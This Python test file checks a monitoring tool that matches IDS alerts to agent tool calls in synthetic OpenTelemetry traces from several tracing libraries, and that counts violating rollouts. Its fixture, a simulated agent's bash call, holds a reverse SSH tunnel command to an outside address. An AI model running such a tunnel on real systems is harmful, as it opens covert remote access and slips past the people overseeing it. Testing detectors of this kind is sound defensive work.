"""Traces of instrumentations other than ours, written by OpenTelemetry's own SDK and encoder."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from google.protobuf.json_format import MessageToJson
from opentelemetry.exporter.otlp.proto.common.trace_encoder import encode_spans
from opentelemetry.sdk.resources import Resource
from opentelemetry.sdk.trace import TracerProvider
from opentelemetry.sdk.trace.export import SimpleSpanProcessor
from opentelemetry.sdk.trace.export.in_memory_span_exporter import InMemorySpanExporter
from opentelemetry.trace import Span, set_span_in_context
from opentelemetry.util.types import AttributeValue

from ray_guard.attribution import store
from ray_guard.cli.__main__ import main
from ray_guard.evidence import conventions
from ray_guard.evidence.otlp import decode
from ray_guard.evidence.reader import Quarantine

SECOND = 1_000_000_000
START = 1_772_854_811 * SECOND
FAR = "198.51.100.7"
COMMAND = f"ssh -fNR 2222:localhost:22 m@{FAR}"
SAID = "I open a tunnel."
CALLED = json.dumps({"args": [], "kwargs": {"command": COMMAND}})

Told = tuple[str, dict[str, AttributeValue], list[tuple[str, dict[str, AttributeValue]]]]


def told(name: str, *events: tuple[str, dict[str, AttributeValue]], **attributes: AttributeValue) -> Told:
    return name, {key.replace("__", "."): value for key, value in attributes.items()}, list(events)


#: agent, model call, tool call, as each of them writes them (read off their own SDKs where those are in Python)
WAYS: dict[str, tuple[Told, Told, Told]] = {
    "OpenInference": (
        told("solve", openinference__span__kind="AGENT", input__value="t"),
        told(
            "ChatOpenAI", openinference__span__kind="LLM", llm__model_name="qwen", llm__token_count__prompt=5,
            llm__token_count__completion=7, output__value='{"choices": []}',
            llm__output_messages__0__message__role="assistant", llm__output_messages__0__message__content=SAID,
        ),
        told(
            "run_shell", openinference__span__kind="TOOL", tool__name="bash", tool_call__id="c-1",
            input__value=json.dumps({"command": COMMAND}), input__mime_type="application/json",
            tool__parameters='{"type": "object"}',
        ),
    ),
    "OpenLLMetry": (
        told("solver.agent", traceloop__span__kind="agent", traceloop__entity__name="solver"),
        told(
            "openai.chat", llm__request__type="chat", gen_ai__request__model="qwen",
            gen_ai__usage__prompt_tokens=5, gen_ai__usage__completion_tokens=7,
            gen_ai__completion__0__role="assistant", gen_ai__completion__0__content=SAID,
        ),
        told(
            "bash.tool", traceloop__span__kind="tool", traceloop__entity__name="bash", gen_ai__tool__call__id="c-1",
            traceloop__entity__input=CALLED,
        ),
    ),
    "Langfuse": (
        told("solve", langfuse__observation__type="agent"),
        told(
            "ask", langfuse__observation__type="generation", langfuse__observation__model__name="qwen",
            langfuse__observation__output=json.dumps([{"role": "assistant", "content": SAID}]),
        ),
        told(
            "bash", langfuse__observation__type="tool", langfuse__observation__input=CALLED, tool__id="c-1"
        ),
    ),
    "GenAI, messages in an attribute, names of its own": (
        told("agent run", gen_ai__operation__name="invoke_agent"),
        told(
            "model", gen_ai__operation__name="chat", gen_ai__request__model="qwen",
            gen_ai__output__messages=json.dumps(
                [{"role": "assistant", "parts": [{"type": "text", "content": SAID}], "finish_reason": "tool_call"}]
            ),
        ),
        told(
            "running tool", gen_ai__operation__name="execute_tool", gen_ai__tool__name="bash",
            gen_ai__tool__call__id="c-1", tool_arguments=json.dumps({"command": COMMAND}),
        ),
    ),
    "GenAI, messages in events": (
        told("invoke_agent rome", gen_ai__operation__name="invoke_agent"),
        told(
            "chat qwen",
            ("gen_ai.user.message", {"content": "the task"}),
            ("gen_ai.choice", {"index": 0, "message": json.dumps({"role": "assistant", "content": SAID})}),
            gen_ai__operation__name="chat", gen_ai__request__model="qwen",
        ),
        told(
            "execute_tool bash", gen_ai__operation__name="execute_tool", gen_ai__tool__name="bash",
            gen_ai__tool__call__id="c-1", gen_ai__tool__call__arguments=json.dumps({"command": COMMAND}),
        ),
    ),
    "AI SDK": (
        told("ai.generateText", ai__operationId="ai.generateText"),
        told(
            "ai.generateText.doGenerate", ai__operationId="ai.generateText.doGenerate", ai__model__id="qwen",
            ai__response__text=SAID,
        ),
        told(
            "ai.toolCall", ai__operationId="ai.toolCall", ai__toolCall__name="bash", ai__toolCall__id="c-1",
            ai__toolCall__args=json.dumps({"command": COMMAND}),
        ),
    ),
    "MLflow": (
        told("predict", mlflow__spanType='"AGENT"'),
        told("qwen", mlflow__spanType='"CHAT_MODEL"', mlflow__spanOutputs=json.dumps(
            {"choices": [{"message": {"role": "assistant", "content": SAID}}]}
        )),
        told(
            "bash", mlflow__spanType='"TOOL"', mlflow__spanInputs=json.dumps({"command": COMMAND}),
            gen_ai__tool__call__id="c-1",
        ),
    ),
}  # fmt: skip


def exported(folder: Path, way: tuple[Told, Told, Told], rollouts: int = 8) -> tuple[Path, dict[str, Any]]:
    """Rollouts, always two at once, the fourth of which opens the tunnel and the others list files; its call's ids."""
    memory = InMemorySpanExporter()
    provider = TracerProvider(resource=Resource({"host.name": "node-a", "host.ip": ["192.0.2.1"]}))
    provider.add_span_processor(SimpleSpanProcessor(memory))
    tracer = provider.get_tracer("theirs")
    culprit: dict[str, Any] = {}

    def begun(what: Told, at_s: float, parent: Span | None, *, ordinary: bool) -> Span:
        name, attributes, events = what
        if ordinary:
            attributes = {
                key: value.replace(COMMAND, "ls -l") if isinstance(value, str) else value
                for key, value in attributes.items()
            }
        context = None if parent is None else set_span_in_context(parent)
        span = tracer.start_span(name, context, attributes=attributes, start_time=START + round(at_s * SECOND))
        for event, about in events:
            span.add_event(event, about, START + round(at_s * SECOND))
        return span

    for number in range(rollouts):
        at, ordinary = 40 * (number // 2) + number % 2, number != 3
        agent, chat, tool = way
        root = begun(agent, at, None, ordinary=ordinary)
        step = begun(("step", {}, []), at, root, ordinary=True)
        begun(chat, at + 0.1, step, ordinary=True).end(START + round((at + 0.5) * SECOND))
        call = begun(tool, at + 1, root, ordinary=ordinary)
        for span, end in ((call, 9), (step, 9), (root, 10)):
            span.end(START + (at + end) * SECOND)
        if number == 3:
            about = call.get_span_context()
            culprit = {"trace_id": f"{about.trace_id:032x}", "span_id": f"{about.span_id:016x}"}
    path = folder / "traces.jsonl"
    path.write_text("".join(_line(span) for span in memory.get_finished_spans()))
    return path, culprit


def _line(span: Any) -> str:
    return MessageToJson(encode_spans([span]), indent=None) + "\n"


@pytest.mark.parametrize("name", WAYS)
def test_its_calls_are_calls_and_each_of_its_traces_a_rollout(name: str, tmp_path: Path) -> None:
    traces, culprit = exported(tmp_path, WAYS[name])
    log, out, page = tmp_path / "eve.json", tmp_path / "answer.json", tmp_path / "page.html"
    record = {
        "timestamp": "2026-03-07T03:40:56.000000+0000", "event_type": "alert", "src_ip": "192.0.2.1",
        "src_port": 40001, "dest_ip": FAR, "dest_port": 22, "proto": "TCP",
        "alert": {"action": "allowed", "signature_id": 1, "signature": "tunnel"},
    }  # fmt: skip
    log.write_text(json.dumps(record) + "\n")
    words = ["attribute", "--traces", traces, "--alerts", log, "--json", out, "--html", page]
    assert main([*map(str, words)]) == 0
    answer = json.loads(out.read_text())
    (alert,) = answer["alerts"]
    assert alert["verdict"] == "attributed"
    first = alert["candidates"][0]
    assert {key: first[key] for key in culprit} == culprit
    assert (first["tool"], first["call_id"], first["rollout"]) == ("bash", "c-1", culprit["trace_id"])
    assert first["evidence"][0] == "the command names the destination"
    assert answer["reward"]["rollouts"] == 8
    assert answer["reward"]["violating_rollouts"] == 1
    shown = page.read_text()
    assert SAID in shown
    assert ("the task" in shown, "the last one of its trace before the call" in shown) == (False, True)


def test_a_call_that_the_guard_recorded_too_is_one_call(tmp_path: Path) -> None:
    """Its own instrumentation stands around the guard's span, in one trace."""
    traces, culprit = exported(tmp_path, WAYS["OpenInference"], rollouts=4)
    ids = [(key, culprit[name]) for key, name in (("traceId", "trace_id"), ("parentSpanId", "span_id"))]
    span = {
        **dict(ids), "spanId": "ab" * 8, "name": "execute_tool bash", "kind": 1,
        "startTimeUnixNano": str(START + 43 * SECOND), "endTimeUnixNano": str(START + 49 * SECOND),
        "attributes": [{"key": "ray_guard.source", "value": {"stringValue": "supervisor"}}],
    }  # fmt: skip
    about = {"attributes": [{"key": "host.name", "value": {"stringValue": "node-a"}}]}
    line = {"resourceSpans": [{"resource": about, "scopeSpans": [{"spans": [span]}]}]}
    traces.write_text(traces.read_text() + json.dumps(line) + "\n")
    db = store.connect()
    store.add_spans(db, [traces], Quarantine())
    store.arrange(db)
    calls = db.execute("SELECT span_id, rollout FROM call WHERE trace_id = ?", [culprit["trace_id"]]).fetchall()
    assert calls == [("ab" * 8, culprit["trace_id"])]
    assert db.execute("SELECT count(*) FROM call").fetchall() == [(4,)]


@pytest.mark.parametrize(
    "attributes",
    [
        {"openinference.span.kind": "CHAIN"},
        {"gen_ai.operation.name": "embeddings"},
        {"traceloop.span.kind": 7},
        {"openinference.span.kind": "TOOL", "ray_guard.source": "target"},
    ],
)
def test_what_is_no_call_stays_what_it_is(attributes: dict[str, Any]) -> None:
    memory = InMemorySpanExporter()
    provider = TracerProvider()
    provider.add_span_processor(SimpleSpanProcessor(memory))
    provider.get_tracer("theirs").start_span("x", attributes=attributes).end()
    ((_, span),) = decode(_line(memory.get_finished_spans()[0]))
    assert conventions.told(span) is span
